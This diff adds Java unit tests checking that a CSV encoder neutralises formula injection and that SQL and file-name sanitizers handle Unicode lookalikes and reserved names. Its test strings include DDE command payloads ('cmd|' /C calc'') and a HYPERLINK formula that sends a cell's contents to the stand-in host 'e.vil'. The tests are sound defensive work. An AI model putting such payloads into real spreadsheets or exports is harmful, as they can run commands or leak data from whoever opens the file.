@@ -58,6 +58,61 @@ class OtherSinksTest {
     assertThat(result.text().replace("'", "")).isEqualTo(attack.replace("'", ""));
   }
 
+  /** What a parser of CSV, or an importer that takes all for one cell, would make a formula of. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "\"-1\"+cmd|' /C calc'!A1",
+        "\"+1\" -HYPERLINK(A1)",
+        "a,\"-1\"\"+x\"",
+        "a,\"-1\n*cmd|' /C calc'!A1\",b",
+        "-1\n*cmd|' /C calc'!A1",
+        "\t-1\r\n/cmd|' /C calc'!A1",
+        "-1\n\uFF0Acmd",
+        "a,\"=\ncmd|' /C calc'!A1\",b",
+        "a,\" \n--\ncmd|' /C calc'!A1\",b",
+        "a,\"\t--\ncmd|' /C calc'!A1\",b",
+        "=\nHYPERLINK(\"http://e.vil/?x=\"&B1,\"ok\")",
+        "--\nHYPERLINK(A1)",
+        "\n-----\nHYPERLINK(A1)",
+        "+----+\n\nHYPERLINK(A1)",
+        "=\r\ncmd",
+        "=-\r\n1+cmd|' /C calc'!A1"
+      })
+  void formulaThatGoesOnBehindAQuoteOrALine_getsAnApostropheToo(String attack) {
+    String first = attack.substring(0, first(attack));
+    assertThat(csv.encode(attack).text()).isEqualTo(first + "'" + attack.substring(first.length()));
+  }
+
+  private static int first(String text) {
+    int i = 0;
+    while ("=+-".indexOf(text.charAt(i)) < 0) {
+      i++;
+    }
+    return i;
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "\"-1,234.50\"",
+        "a,\"-1\",\"+2\" ,\"-3\"\n",
+        "-12.50\n+3\n-4",
+        "-12.50,**\n",
+        "-5\nfive",
+        "Title\n-----\nText",
+        "a\n=====\n\n+----+----+\n| a  | b  |\n+----+----+\n",
+        "id,trend\n1,+\n2,-\n",
+        "\"\",-----\nx",
+        "\"a\"\n-5\nx",
+        "-",
+        "--\n",
+        "-----\n====="
+      })
+  void numberOrRuleThatIsAllOfItsCell_staysAsItIs(String text) {
+    SinkLaws.unchanged(csv, text);
+  }
+
   @ParameterizedTest
   @ValueSource(
       strings = {
@@ -83,12 +138,38 @@ class OtherSinksTest {
         cells.add(cell.replaceAll("^[\\s\\p{Z}\\p{Cf}\\p{Cc}\"]+", ""));
       }
     }
+    for (char delimiter : new char[] {',', ';', '\t'}) {
+      parsed(text, delimiter).forEach(cell -> cells.add(cell.strip()));
+    }
+    return cells;
+  }
+
+  /** The cells as a parser finds them that honours quotes (RFC 4180, leniently). */
+  private static List<String> parsed(String text, char delimiter) {
+    List<String> cells = new ArrayList<>();
+    StringBuilder cell = new StringBuilder();
+    boolean open = false;
+    boolean fresh = true;
+    for (char c : text.toCharArray()) {
+      if (c == '"' && (open || fresh)) {
+        open = !open;
+        fresh = false;
+      } else if (!open && (c == delimiter || c == '\n' || c == '\r')) {
+        cells.add(cell.toString());
+        cell.setLength(0);
+        fresh = true;
+      } else {
+        cell.append(c);
+        fresh &= c == ' ';
+      }
+    }
+    cells.add(cell.toString());
     return cells;
   }
 
   private static boolean computed(String cell) {
     return cell.matches("(?s)[=+@\\-＝＋－＠].*[A-Za-z0-9(].*")
-        && !cell.matches("(?s)[+-][-+0-9.()/: \u00A0%€$]*\"?.{0}")
+        && !cell.matches("(?s)[+-][-+0-9.()/: \u00A0%€$,;]*\"?.{0}")
         && !cell.matches("(?s)[-+=|:\\s]*");
   }
 
@@ -200,7 +281,8 @@ class OtherSinksTest {
           x\\               | x\\\\
           x\\'              | x\\\\''
           '''               | ''''
-          xʼ y′ z＇          | x’ y’ z’
+          xʼ y′ z＇ʹˈ        | x’ y’ z’’’
+          x＼' y∖            | x⧵'' y⧵
           a -- b; /* c      | a -- b; /* c
           """)
   void sqlText_endsNoString(String raw, String expected) {
@@ -254,6 +336,12 @@ class OtherSinksTest {
           NUL                  | _NUL
           con.txt              | _con.txt
           COM1                 | _COM1
+          COM１                | _COM１
+          ｎｕｌ.txt           | _ｎｕｌ.txt
+          ．．                 | __
+          ․․                   | __
+          a．                  | a_
+          －rf                 | _－rf
           LPT³.log             | _LPT³.log
           file.txt::$DATA      | file.txt__$DATA
           -rf                  | _-rf
